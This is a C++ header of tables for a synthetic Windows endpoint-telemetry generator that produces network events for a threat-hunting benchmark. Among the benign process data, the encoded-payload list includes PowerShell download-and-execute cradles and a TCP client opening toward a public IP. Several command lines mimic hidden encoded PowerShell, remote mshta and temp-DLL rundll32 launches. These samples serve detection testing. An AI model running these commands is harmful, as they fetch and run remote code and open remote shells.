// The static tables behind gen-events: the processes found on a Contoso device, what each one does
// on the network, and the internet hosts it talks to. Only generator.cpp includes this file.
//
// Weights are chosen so that the hunts in shared/bench/hunts each select a small, non-trivial share
// of the events: about 2 % of events come from the script hosts hunt a lists, and a few per
// thousand carry "-enc" in the command line or visit pastebin (hunt c).
#pragma once

#include <array>
#include <cstdint>
#include <vector>

namespace huntc::gen::catalog {

// How long an instance of a process lives, which decides how its pid and creation time recur.
enum class Life : uint8_t {
  kKernel,   // "System": pid 4, started at boot
  kBoot,     // services: one instance per boot
  kSession,  // user applications: one instance per working day
  kShort,    // script hosts: a new instance every few minutes
};

struct Parent {
  const char* name;
  Life life;
};

// Text fields are plain C++ strings; the generator escapes them for JSON once, at start-up.
// `dir` may hold "<user>", replaced by the account name of the instance.
struct Process {
  std::vector<const char*> names;  // spellings of the file name, the usual one first
  const char* dir;
  const char* company;
  const char* product;
  const char* version;
  const char* internal_name;
  const char* original_name;
  const char* description;
  int64_t size;
  Life life;
  std::vector<Parent> parents;  // one is picked per instance; empty for the kernel
};

constexpr Parent kExplorer{"explorer.exe", Life::kSession};
constexpr Parent kServices{"services.exe", Life::kBoot};
constexpr const char* kWindows = "Microsoft® Windows® Operating System";
constexpr const char* kWinVersion = "10.0.26100.4946";

inline const std::vector<Process> kProcesses = {
    {{"chrome.exe"}, R"(C:\Program Files\Google\Chrome\Application)", "Google LLC", "Google Chrome",
     "142.0.7444.60", "chrome_exe", "chrome.exe", "Google Chrome", 3'207'480, Life::kSession, {kExplorer}},
    {{"msedge.exe"}, R"(C:\Program Files (x86)\Microsoft\Edge\Application)", "Microsoft Corporation",
     "Microsoft Edge", "142.0.3595.53", "msedge_exe", "msedge.exe", "Microsoft Edge", 4'191'160,
     Life::kSession, {kExplorer}},
    {{"firefox.exe"}, R"(C:\Program Files\Mozilla Firefox)", "Mozilla Corporation", "Firefox", "145.0.1",
     "firefox", "firefox.exe", "Firefox", 689'760, Life::kSession, {kExplorer}},
    {{"Teams.exe"}, R"(C:\Users\<user>\AppData\Local\Microsoft\Teams\current)", "Microsoft Corporation",
     "Microsoft Teams", "1.7.00.33761", "Teams", "Teams.exe", "Microsoft Teams", 140'518'232,
     Life::kSession, {kExplorer}},
    {{"OUTLOOK.EXE"}, R"(C:\Program Files\Microsoft Office\root\Office16)", "Microsoft Corporation",
     "Microsoft Outlook", "16.0.19328.20178", "Outlook", "Outlook.exe", "Microsoft Outlook", 43'971'472,
     Life::kSession, {kExplorer}},
    {{"OneDrive.exe"}, R"(C:\Users\<user>\AppData\Local\Microsoft\OneDrive)", "Microsoft Corporation",
     "Microsoft OneDrive", "25.194.1005.0002", "OneDrive.exe", "OneDrive.exe", "Microsoft OneDrive",
     3'936'200, Life::kSession, {kExplorer}},
    {{"Code.exe"}, R"(C:\Users\<user>\AppData\Local\Programs\Microsoft VS Code)", "Microsoft Corporation",
     "Visual Studio Code", "1.106.2", "Code", "Code.exe", "Visual Studio Code", 184'021'504,
     Life::kSession, {kExplorer}},
    {{"python.exe"}, R"(C:\Users\<user>\AppData\Local\Programs\Python\Python312)",
     "Python Software Foundation", "Python", "3.12.7", "Python Console", "python.exe", "Python", 103'192,
     Life::kShort, {{"cmd.exe", Life::kShort}, {"Code.exe", Life::kSession}}},
    {{"pwsh.exe"}, R"(C:\Program Files\PowerShell\7)", "Microsoft Corporation", "PowerShell", "7.5.4",
     "pwsh.dll", "pwsh.dll", "pwsh", 288'296, Life::kShort, {kExplorer}},
    {{"svchost.exe"}, R"(C:\Windows\System32)", "Microsoft Corporation", kWindows, kWinVersion,
     "svchost.exe", "svchost.exe", "Host Process for Windows Services", 57'360, Life::kBoot, {kServices}},
    {{"MsSense.exe"}, R"(C:\Program Files\Windows Defender Advanced Threat Protection)",
     "Microsoft Corporation", kWindows, "10.8810.26100.6584", "MsSense.exe", "MsSense.exe",
     "Windows Defender Advanced Threat Protection Service Executable", 5'478'760, Life::kBoot,
     {kServices}},
    {{"MsMpEng.exe"}, R"(C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.25090.3009-0)",
     "Microsoft Corporation", kWindows, "4.18.25090.3009", "MsMpEng.exe", "MsMpEng.exe",
     "Antimalware Service Executable", 133'624, Life::kBoot, {kServices}},
    {{"ntoskrnl.exe"}, R"(C:\Windows\System32)", "Microsoft Corporation", kWindows, kWinVersion,
     "ntkrnlmp.exe", "ntkrnlmp.exe", "NT Kernel & System", 12'357'984, Life::kKernel, {}},
    {{"lsass.exe"}, R"(C:\Windows\System32)", "Microsoft Corporation", kWindows, kWinVersion, "lsass.exe",
     "lsass.exe", "Local Security Authority Process", 91'560, Life::kBoot,
     {{"wininit.exe", Life::kBoot}}},
    {{"dns.exe"}, R"(C:\Windows\System32)", "Microsoft Corporation", kWindows, kWinVersion, "dns.exe",
     "dns.exe", "Domain Name System (DNS) Server", 1'654'784, Life::kBoot, {kServices}},
    {{"sqlservr.exe"}, R"(C:\Program Files\Microsoft SQL Server\MSSQL16.MSSQLSERVER\MSSQL\Binn)",
     "Microsoft Corporation", "Microsoft SQL Server", "2022.160.4205.1", "SQLSERVR", "SQLSERVR.EXE",
     "SQL Server Windows NT - 64 Bit", 686'528, Life::kBoot, {kServices}},
    {{"w3wp.exe"}, R"(C:\Windows\System32\inetsrv)", "Microsoft Corporation", "Internet Information Services",
     "10.0.20348.1", "w3wp.exe", "w3wp.exe", "IIS Worker Process", 29'696, Life::kSession,
     {{"svchost.exe", Life::kBoot}}},
    {{"java.exe"}, R"(C:\Program Files\Eclipse Adoptium\jdk-17.0.13.11-hotspot\bin)", "Eclipse Adoptium",
     "OpenJDK Platform 17.0.13", "17.0.13.0", "java", "java.exe", "OpenJDK Platform binary", 44'536,
     Life::kBoot, {kServices}},
    // The script hosts of hunt a, sometimes spelled in other cases so that `in~` matters.
    {{"powershell.exe", "PowerShell.exe", "POWERSHELL.EXE"}, R"(C:\Windows\System32\WindowsPowerShell\v1.0)",
     "Microsoft Corporation", kWindows, kWinVersion, "POWERSHELL", "PowerShell.EXE", "Windows PowerShell",
     455'680, Life::kShort,
     {kExplorer, kExplorer, {"cmd.exe", Life::kShort}, {"svchost.exe", Life::kBoot},
      {"WINWORD.EXE", Life::kSession}}},
    {{"cmd.exe", "CMD.EXE", "Cmd.exe"}, R"(C:\Windows\System32)", "Microsoft Corporation", kWindows,
     kWinVersion, "cmd", "Cmd.Exe", "Windows Command Processor", 323'584, Life::kShort,
     {kExplorer, kExplorer, {"svchost.exe", Life::kBoot}}},
    {{"rundll32.exe", "RUNDLL32.EXE", "RunDll32.exe"}, R"(C:\Windows\System32)", "Microsoft Corporation",
     kWindows, kWinVersion, "rundll", "RUNDLL32.EXE", "Windows host process (Rundll32)", 71'680,
     Life::kShort, {{"svchost.exe", Life::kBoot}, kExplorer, {"cmd.exe", Life::kShort}}},
    {{"mshta.exe", "MSHTA.EXE"}, R"(C:\Windows\System32)", "Microsoft Corporation", kWindows, kWinVersion,
     "MSHTA.EXE", "MSHTA.EXE", "Microsoft (R) HTML Application host", 43'008, Life::kShort,
     {kExplorer, {"OUTLOOK.EXE", Life::kSession}}},
    {{"wscript.exe", "WScript.exe"}, R"(C:\Windows\System32)", "Microsoft Corporation", kWindows,
     kWinVersion, "wscript.exe", "wscript.exe", "Microsoft ® Windows Based Script Host", 172'032,
     Life::kShort, {kExplorer, {"OUTLOOK.EXE", Life::kSession}}},
};

enum Role : uint8_t { kWorkstation, kDc, kFile, kSql, kWeb, kApp, kRoleCount };
constexpr unsigned kWks = 1u << kWorkstation;
constexpr unsigned kServers = (1u << kRoleCount) - 1 - kWks;
constexpr unsigned kAll = kWks | kServers;

// Whose token the process runs with. kUser on a server means an administrator in an RDP session.
enum class Account : uint8_t { kUser, kSystem, kLocalService, kNetworkService };

// Where the other end of the connection is.
enum class Dest : uint8_t {
  kWeb,        // public hosts, Zipf-like popularity
  kMicrosoft,  // Microsoft 365 hosts
  kDefender,   // Defender cloud
  kUpdate,     // Windows Update
  kSuspicious, // any public host, rare ones as likely as popular ones
  kDc,         // a domain controller
  kFile,       // a file server
  kSql,        // a SQL server
  kLoopback,
  kFromWorkstation,  // inbound from a workstation
  kFromAdmin,        // inbound from an administrator's workstation
  kFromServer,       // inbound from a web or application server
  kListen,           // a listening socket: no remote end
};

// One kind of network activity: a process on a device of some roles talking to some destination.
struct Behaviour {
  unsigned roles;
  double weight;  // relative frequency among the behaviours of a device's role
  const char* process;
  Account account;
  Dest dest;
  bool udp;
  std::vector<int> ports;  // one is drawn uniformly, repeat one to weight it; 0 = ephemeral
  double odd_url;          // share of events that visit pastebin or a look-alike instead
  std::vector<const char*> cmdlines;  // "<user>", "<n>", "<guid>", "<token>", "<payload>" are filled per instance
};

inline const std::vector<Behaviour> kBehaviours = {
    // Workstations: browsers and Microsoft 365 make most of the traffic.
    {kWks, 240, "chrome.exe", Account::kUser, Dest::kWeb, false, {443, 443, 443, 443, 443, 443, 443, 80}, 0.004,
     {R"("C:\Program Files\Google\Chrome\Application\chrome.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none --mojo-platform-channel-handle=<n> --field-trial-handle=<n>,i,<n>,<n>,262144 /prefetch:11)",
      R"("C:\Program Files\Google\Chrome\Application\chrome.exe" )"}},
    {kWks, 170, "msedge.exe", Account::kUser, Dest::kWeb, false, {443, 443, 443, 443, 443, 443, 443, 80}, 0.004,
     {R"("C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none --field-trial-handle=<n>,i,<n>,<n>,262144 --variations-seed-version /prefetch:3)",
      R"("C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --single-argument https://contoso.sharepoint.com/sites/Finance/Shared%20Documents)"}},
    {kWks, 15, "firefox.exe", Account::kUser, Dest::kWeb, false, {443, 443, 443, 80}, 0.004,
     {R"("C:\Program Files\Mozilla Firefox\firefox.exe" -contentproc -parentBuildID 20251110143411 -prefsLen <n> -prefMapSize 244583 -appDir "C:\Program Files\Mozilla Firefox\browser" <n> socket)"}},
    {kWks, 65, "Teams.exe", Account::kUser, Dest::kMicrosoft, false, {443}, 0,
     {R"("C:\Users\<user>\AppData\Local\Microsoft\Teams\current\Teams.exe" --type=renderer --autoplay-policy=no-user-gesture-required --field-trial-handle=<n> --lang=en-US --mojo-platform-channel-handle=<n> /prefetch:1)",
      R"("C:\Users\<user>\AppData\Local\Microsoft\Teams\current\Teams.exe" --system-initiated)"}},
    {kWks, 10, "Teams.exe", Account::kUser, Dest::kMicrosoft, true, {3478, 3479, 3480, 3481}, 0,
     {R"("C:\Users\<user>\AppData\Local\Microsoft\Teams\current\Teams.exe" --system-initiated)"}},
    {kWks, 70, "OUTLOOK.EXE", Account::kUser, Dest::kMicrosoft, false, {443}, 0,
     {R"("C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE" )",
      R"("C:\Program Files\Microsoft Office\Root\Office16\OUTLOOK.EXE" /recycle)"}},
    {kWks, 45, "OneDrive.exe", Account::kUser, Dest::kMicrosoft, false, {443}, 0,
     {R"("C:\Users\<user>\AppData\Local\Microsoft\OneDrive\OneDrive.exe" /background)",
      R"("C:\Users\<user>\AppData\Local\Microsoft\OneDrive\OneDrive.exe" /updateInstalled /background)"}},
    {kWks, 8, "Code.exe", Account::kUser, Dest::kWeb, false, {443}, 0,
     {R"("C:\Users\<user>\AppData\Local\Programs\Microsoft VS Code\Code.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none --mojo-platform-channel-handle=<n> /prefetch:8)"}},
    // "--encoding" contains "-enc": a benign match for hunt c, as in real data.
    {kWks, 2, "python.exe", Account::kUser, Dest::kWeb, false, {443}, 0,
     {R"("C:\Users\<user>\AppData\Local\Programs\Python\Python312\python.exe" "C:\Users\<user>\source\reports\export.py" --encoding utf-8 --out "\\srv-file-01\reports\weekly.csv")"}},
    // PowerShell 7 is not in hunt a's list.
    {kWks, 2, "pwsh.exe", Account::kUser, Dest::kWeb, false, {443}, 0,
     {R"("C:\Program Files\PowerShell\7\pwsh.exe" -NoLogo)",
      R"("C:\Program Files\PowerShell\7\pwsh.exe" -NoProfile -Command "Update-Module -Name Az -Force")"}},

    // Every device: name resolution, domain traffic, updates, Defender, SMB, local sockets.
    {kAll, 80, "svchost.exe", Account::kNetworkService, Dest::kDc, true, {53}, 0,
     {R"(C:\Windows\system32\svchost.exe -k NetworkService -p -s Dnscache)"}},
    {kAll, 30, "svchost.exe", Account::kSystem, Dest::kDc, false, {135, 389, 389, 88, 445}, 0,
     {R"(C:\Windows\system32\svchost.exe -k netsvcs -p -s gpsvc)", R"(C:\Windows\system32\svchost.exe -k RPCSS -p)"}},
    {kAll, 20, "svchost.exe", Account::kSystem, Dest::kUpdate, false, {443, 443, 443, 80}, 0,
     {R"(C:\Windows\system32\svchost.exe -k netsvcs -p -s wuauserv)", R"(C:\Windows\System32\svchost.exe -k netsvcs -p -s BITS)",
      R"(C:\Windows\System32\svchost.exe -k NetworkService -p -s DoSvc)"}},
    {kAll, 45, "MsSense.exe", Account::kSystem, Dest::kDefender, false, {443}, 0, {R"("MsSense.exe")"}},
    {kAll, 10, "MsMpEng.exe", Account::kSystem, Dest::kDefender, false, {443}, 0,
     {R"("C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.25090.3009-0\MsMpEng.exe")"}},
    {kAll, 30, "ntoskrnl.exe", Account::kSystem, Dest::kFile, false, {445}, 0, {""}},
    {kAll, 8, "svchost.exe", Account::kLocalService, Dest::kLoopback, false, {0}, 0,
     {R"(C:\Windows\system32\svchost.exe -k LocalServiceNoNetwork -p)"}},
    {kAll, 5, "svchost.exe", Account::kSystem, Dest::kListen, false, {7680, 5040, 5357}, 0,
     {R"(C:\Windows\System32\svchost.exe -k NetworkService -p -s DoSvc)",
      R"(C:\Windows\system32\svchost.exe -k LocalSystemNetworkRestricted -p -s CDPSvc)"}},
    {kAll, 4, "svchost.exe", Account::kNetworkService, Dest::kFromAdmin, false, {135}, 0,
     {R"(C:\Windows\system32\svchost.exe -k RPCSS -p)"}},
    {kAll, 4, "ntoskrnl.exe", Account::kSystem, Dest::kFromAdmin, false, {445}, 0, {""}},

    // Script hosts on workstations: admin scripts, installers, and a little malware.
    {kWks, 9, "powershell.exe", Account::kUser, Dest::kWeb, false, {443}, 0,
     {R"("C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoProfile -ExecutionPolicy Bypass -File "C:\Program Files (x86)\Microsoft Intune Management Extension\Policies\Scripts\<guid>_<guid>.ps1")",
      R"(powershell.exe -ExecutionPolicy Bypass -NoProfile -Command "Invoke-RestMethod -Uri 'https://api.github.com/repos/contoso/tools/releases/latest'")",
      R"("C:\WINDOWS\System32\WindowsPowerShell\v1.0\powershell.exe" -NoLogo -NonInteractive -Command "& {Get-Content \"C:\ProgramData\Contoso\inventory.json\" | ConvertFrom-Json}")"}},
    // "-e" is short for -EncodedCommand too, but hunt c only looks for "-enc".
    {kWks, 2, "powershell.exe", Account::kUser, Dest::kSuspicious, false, {443, 443, 80, 8080}, 0.1,
     {R"("C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -nop -w hidden -enc <payload>)",
      R"(powershell.exe -NoProfile -NonInteractive -EncodedCommand <payload>)",
      R"(PowerShell -ExecutionPolicy Bypass -ENC <payload>)", R"(powershell.exe -e <payload>)"}},
    {kWks, 4, "cmd.exe", Account::kUser, Dest::kWeb, false, {443, 80}, 0,
     {R"(C:\WINDOWS\system32\cmd.exe /c ""C:\Program Files\Contoso\Agent\update.cmd" /quiet")",
      R"("C:\Windows\system32\cmd.exe" /c net use Z: \\srv-file-01\share && "C:\Program Files\Contoso\Agent\sync.exe")"}},
    {kWks, 3, "rundll32.exe", Account::kUser, Dest::kSuspicious, false, {443, 80}, 0.02,
     {R"("C:\Windows\system32\rundll32.exe" C:\Windows\System32\shell32.dll,SHCreateLocalServerRunDll {<guid>} -Embedding)",
      R"(rundll32.exe "C:\Users\<user>\AppData\Local\Temp\<token>.dll",DllRegisterServer)",
      R"(C:\Windows\System32\rundll32.exe C:\Windows\System32\davclnt.dll,DavSetCookie srv-file-01 http://srv-file-01/DavWWWRoot/)"}},
    {kWks, 1, "mshta.exe", Account::kUser, Dest::kSuspicious, false, {443, 80}, 0.05,
     {R"("C:\Windows\System32\mshta.exe" "C:\Users\<user>\Downloads\invoice_<n>.hta" {1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}{1E460BD7-F1C3-4B2E-88BF-4E770A288AF5})",
      R"("C:\WINDOWS\system32\mshta.exe" https://update-<token>.azurewebsites.net/help.hta)"}},
    {kWks, 1, "wscript.exe", Account::kUser, Dest::kSuspicious, false, {443, 80}, 0.05,
     {R"("C:\Windows\System32\WScript.exe" "C:\Users\<user>\Downloads\Invoice_<n>.js")",
      R"("C:\Windows\System32\wscript.exe" //B //NoLogo "\\contoso.local\NETLOGON\logon.vbs")"}},

    // Servers: administrators over RDP, and each role's own service.
    {kServers, 12, "svchost.exe", Account::kNetworkService, Dest::kFromAdmin, false, {3389}, 0,
     {R"(C:\Windows\System32\svchost.exe -k NetworkService -s TermService)"}},
    {kServers, 12, "powershell.exe", Account::kUser, Dest::kMicrosoft, false, {443}, 0,
     {R"("C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoProfile -Command "Test-NetConnection srv-sql-01 -Port 1433")",
      R"(powershell.exe -ExecutionPolicy Bypass -File "C:\Scripts\Backup-Databases.ps1")",
      R"(powershell.exe -NoLogo -Command "Invoke-WebRequest -Uri https://aka.ms/installazurecliwindows -OutFile .\AzureCLI.msi")"}},
    {kServers, 3, "powershell.exe", Account::kUser, Dest::kMicrosoft, false, {443}, 0,
     {R"("C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoLogo -NonInteractive -ExecutionPolicy Bypass -EncodedCommand <payload>)"}},
    {kServers, 3, "cmd.exe", Account::kUser, Dest::kWeb, false, {443}, 0,
     {R"(C:\Windows\system32\cmd.exe /c "C:\Scripts\rotate-logs.cmd")"}},
    {1u << kDc, 250, "lsass.exe", Account::kSystem, Dest::kFromWorkstation, false, {389, 389, 88, 88, 636}, 0,
     {R"(C:\Windows\system32\lsass.exe)"}},
    {1u << kDc, 300, "dns.exe", Account::kSystem, Dest::kFromWorkstation, true, {53}, 0,
     {R"(C:\Windows\system32\dns.exe)"}},
    {1u << kFile, 400, "ntoskrnl.exe", Account::kSystem, Dest::kFromWorkstation, false, {445}, 0, {""}},
    {1u << kSql, 350, "sqlservr.exe", Account::kNetworkService, Dest::kFromServer, false, {1433}, 0,
     {R"("C:\Program Files\Microsoft SQL Server\MSSQL16.MSSQLSERVER\MSSQL\Binn\sqlservr.exe" -sMSSQLSERVER)"}},
    {1u << kWeb, 300, "w3wp.exe", Account::kNetworkService, Dest::kFromWorkstation, false, {443}, 0,
     {R"(c:\windows\system32\inetsrv\w3wp.exe -ap "ContosoPortal" -v "v4.0" -l "webengine4.dll" -a \\.\pipe\iisipm<guid> -h "C:\inetpub\temp\apppools\ContosoPortal\ContosoPortal.config" -w "" -m 0 -t 20 -ta 0)"}},
    {1u << kWeb, 120, "w3wp.exe", Account::kNetworkService, Dest::kSql, false, {1433}, 0,
     {R"(c:\windows\system32\inetsrv\w3wp.exe -ap "ContosoPortal" -v "v4.0" -l "webengine4.dll" -a \\.\pipe\iisipm<guid> -h "C:\inetpub\temp\apppools\ContosoPortal\ContosoPortal.config" -w "" -m 0 -t 20 -ta 0)"}},
    // "-Dfile.encoding" holds ".enc", not "-enc".
    {1u << kApp, 150, "java.exe", Account::kNetworkService, Dest::kSql, false, {1433}, 0,
     {R"("C:\Program Files\Eclipse Adoptium\jdk-17.0.13.11-hotspot\bin\java.exe" -Xms512m -Xmx4g -Dfile.encoding=UTF-8 -jar "D:\Apps\billing\billing-service.jar" --spring.profiles.active=prod)"}},
    {1u << kApp, 60, "java.exe", Account::kNetworkService, Dest::kWeb, false, {443}, 0,
     {R"("C:\Program Files\Eclipse Adoptium\jdk-17.0.13.11-hotspot\bin\java.exe" -Xms512m -Xmx4g -Dfile.encoding=UTF-8 -jar "D:\Apps\billing\billing-service.jar" --spring.profiles.active=prod)"}},
};

// ActionType shares. Defender folds repeated connections into *AggregatedReport rows.
struct ActionShare {
  const char* name;
  double weight;
};
constexpr ActionShare kOutboundActions[] = {
    {"ConnectionSuccess", 86}, {"ConnectionFailed", 4}, {"ConnectionAttempt", 3},
    {"ConnectionSuccessAggregatedReport", 5}, {"ConnectionFailedAggregatedReport", 2},
};
constexpr ActionShare kInboundActions[] = {
    {"InboundConnectionAccepted", 92}, {"ConnectionSuccessAggregatedReport", 8},
};

// Scripts hidden behind -EncodedCommand, base64-encoded as UTF-16LE as PowerShell expects.
inline const std::vector<const char*> kPayloadScripts = {
    "IEX (New-Object Net.WebClient).DownloadString('https://raw.pastebin.com/raw/8fJ2kLqz')",
    "$c=New-Object Net.Sockets.TCPClient('185.220.101.34',443);$s=$c.GetStream();[byte[]]$b=0..65535|%{0}",
    "Get-CimInstance Win32_OperatingSystem | Select-Object Caption, Version, LastBootUpTime | ConvertTo-Json",
    "[Net.ServicePointManager]::SecurityProtocol='Tls12'; iwr https://contoso-cdn.azureedge.net/agent/install.ps1 -UseBasicParsing | iex",
};

enum class Pool : uint8_t { kWeb, kMicrosoft, kDefender, kUpdate };

// A named internet host and the /16 its addresses come from. Within a pool, hosts are listed from
// the most to the least visited; the web pool continues with generated, rarely visited hosts.
struct Host {
  const char* name;
  Pool pool;
  uint8_t a, b;
  int addresses;
};

inline const std::vector<Host> kHosts = {
    {"login.microsoftonline.com", Pool::kMicrosoft, 20, 190, 4},
    {"outlook.office365.com", Pool::kMicrosoft, 52, 97, 6},
    {"teams.microsoft.com", Pool::kMicrosoft, 52, 113, 4},
    {"graph.microsoft.com", Pool::kMicrosoft, 40, 126, 3},
    {"contoso.sharepoint.com", Pool::kMicrosoft, 13, 107, 2},
    {"contoso-my.sharepoint.com", Pool::kMicrosoft, 13, 107, 2},
    {"substrate.office.com", Pool::kMicrosoft, 52, 96, 3},
    {"presence.teams.microsoft.com", Pool::kMicrosoft, 52, 114, 2},
    {"officeclient.microsoft.com", Pool::kMicrosoft, 52, 109, 2},
    {"nexus.officeapps.live.com", Pool::kMicrosoft, 52, 111, 2},
    {"ecs.office.com", Pool::kMicrosoft, 52, 113, 2},
    {"skyapi.live.net", Pool::kMicrosoft, 13, 107, 2},
    {"login.live.com", Pool::kMicrosoft, 40, 126, 2},
    {"config.teams.microsoft.com", Pool::kMicrosoft, 52, 113, 1},
    {"winatp-gw-weu.microsoft.com", Pool::kDefender, 20, 50, 3},
    {"us-v20.events.data.microsoft.com", Pool::kDefender, 13, 69, 2},
    {"wdcp.microsoft.com", Pool::kDefender, 20, 42, 2},
    {"smartscreen-prod.microsoft.com", Pool::kDefender, 20, 50, 1},
    {"fe2cr.update.microsoft.com", Pool::kUpdate, 20, 109, 3},
    {"sls.update.microsoft.com", Pool::kUpdate, 20, 12, 2},
    {"dl.delivery.mp.microsoft.com", Pool::kUpdate, 152, 199, 4},
    {"download.windowsupdate.com", Pool::kUpdate, 13, 107, 2},
    {"ctldl.windowsupdate.com", Pool::kUpdate, 93, 184, 1},
    {"www.bing.com", Pool::kWeb, 13, 107, 3},
    {"www.google.com", Pool::kWeb, 142, 250, 6},
    {"fonts.gstatic.com", Pool::kWeb, 142, 250, 2},
    {"www.youtube.com", Pool::kWeb, 142, 251, 4},
    {"edge.microsoft.com", Pool::kWeb, 13, 107, 2},
    {"www.linkedin.com", Pool::kWeb, 13, 107, 2},
    {"github.com", Pool::kWeb, 140, 82, 3},
    {"api.github.com", Pool::kWeb, 140, 82, 2},
    {"update.googleapis.com", Pool::kWeb, 142, 250, 2},
    {"clients2.google.com", Pool::kWeb, 142, 251, 2},
    {"stackoverflow.com", Pool::kWeb, 104, 18, 2},
    {"en.wikipedia.org", Pool::kWeb, 185, 15, 1},
    {"cdn.jsdelivr.net", Pool::kWeb, 104, 16, 2},
    {"www.amazon.com", Pool::kWeb, 54, 239, 2},
    {"www.nytimes.com", Pool::kWeb, 151, 101, 2},
    {"www.reddit.com", Pool::kWeb, 151, 101, 2},
    {"zoom.us", Pool::kWeb, 170, 114, 2},
    {"slack.com", Pool::kWeb, 52, 85, 2},
};

// Generated web hosts: word + word + number + top-level domain, none of them near "pastebin".
inline const std::vector<const char*> kHostWords = {
    "news",  "cdn",   "static", "img",   "api",   "shop",  "weather", "travel", "sports", "media",
    "stream", "cloud", "tech",  "forum", "blog",  "maps",  "mail",    "docs",   "learn",  "video",
    "daily", "metro", "pixel",  "smart", "green", "urban", "north",   "alpha",  "delta",  "prime",
};
inline const std::vector<const char*> kTlds = {"com", "com", "com", "net", "org", "io", "co.uk", "de", "fr"};

// RemoteUrl values for hunt c: pastebin as a whole term (matches `has "pastebin"`), and look-alikes
// where "pastebin" is only part of a term (must not match).
inline const std::vector<const char*> kPastebinUrls = {
    "pastebin.com", "raw.pastebin.com", "https://pastebin.com/raw/gh7KpQ1z", "raw.pastebin.com/raw/8fJ2kLqz",
    "PasteBin.com",
};
inline const std::vector<const char*> kLookAlikeUrls = {
    "notpastebinx.com", "mypastebin.net", "pastebinapp.io", "pastebins.org", "paste-bin.com",
};
inline const std::vector<const char*> kPastebinAddresses = {"104.20.67.143", "104.20.68.143", "172.67.19.24"};

inline const std::vector<const char*> kFirstNames = {
    "james", "mary",  "john",   "patricia", "robert", "jennifer", "michael", "linda",  "david",  "elizabeth",
    "anna",  "lukas", "sofia",  "mateo",    "emma",   "noah",     "olivia",  "liam",   "chloe",  "ethan",
    "aisha", "omar",  "yuki",   "haruto",   "priya",  "arjun",    "fatima",  "ali",    "ingrid", "lars",
    "marta", "pavel", "chiara", "luca",     "ines",   "diego",    "zoe",     "felix",  "nora",   "samuel",
};
inline const std::vector<const char*> kLastNames = {
    "smith",  "johnson", "williams", "brown",  "jones",  "garcia", "miller", "davis",   "martin",  "lopez",
    "muller", "schmidt", "rossi",    "russo",  "dubois", "moreau", "tanaka", "suzuki",  "patel",   "sharma",
    "khan",   "hansen",  "larsen",   "novak",  "kowal",  "silva",  "santos", "fischer", "weber",   "meyer",
    "nguyen", "tran",    "kim",      "park",   "chen",   "wang",   "ali",    "ahmed",   "okafor",  "mensah",
};

// Relative weight of each UTC hour of a weekday: office hours are busy, nights are quiet.
constexpr std::array<double, 24> kWeekdayHours = {
    0.10, 0.08, 0.07, 0.07, 0.08, 0.12, 0.25, 0.60, 1.00, 1.00, 1.00, 1.00,
    0.80, 1.00, 1.00, 1.00, 0.95, 0.80, 0.50, 0.35, 0.30, 0.25, 0.20, 0.15,
};
constexpr double kWeekendShare = 0.2;  // a weekend hour weighs this much of the same weekday hour

}  // namespace huntc::gen::catalog
